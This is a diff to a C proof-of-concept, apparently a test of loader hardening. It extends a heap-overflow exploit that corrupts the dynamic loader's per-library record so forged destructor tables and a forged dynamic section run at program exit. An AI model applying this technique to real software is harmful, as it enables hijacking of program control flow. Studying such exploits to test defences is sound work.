@@ -2,9 +2,10 @@
  * in a note to write.
  *
  * The loader runs destructors at exit by way of its records: of each object,
- * where its dynamic section is, and by that where its destructors are. On
- * upstream the records are on the heap too. The attacker writes a dynamic section
- * into a note, and by the overflow its address into the record of a library. */
+ * where its dynamic section is, and by that where its destructors are, or
+ * where its destructors are at once. On upstream the records are on the heap
+ * too. The attacker writes a table of destructors and a dynamic section into a
+ * note, and by the overflow their addresses into the record of a library. */
 
 #include "story.h"
 #include <link.h>
@@ -87,6 +88,14 @@ int main(void)
 		(unsigned long)&l->l_ld);
 	fflush(stdout);
 	sigaction(SIGSEGV, &sa, 0);
+	/* If the record has the address of the destructors: a word that is as
+	 * in the dynamic section. */
+	size_t *word = (size_t *)l, table = 0;
+	for (ElfW(Dyn) *d=l->l_ld; d->d_tag; d++)
+		if (d->d_tag == DT_FINI_ARRAY) table = d->d_un.d_val;
+	for (int i=0; i<64 && table; i++)
+		if (word[i] == table) note_write(n, (char *)(word+i)-n->text,
+			&forged.dyn[0].d_un.d_val, sizeof *word);
 	note_write(n, (char *)&l->l_ld-n->text, &text, sizeof text);
 	puts("overwritten");
 	fflush(stdout);
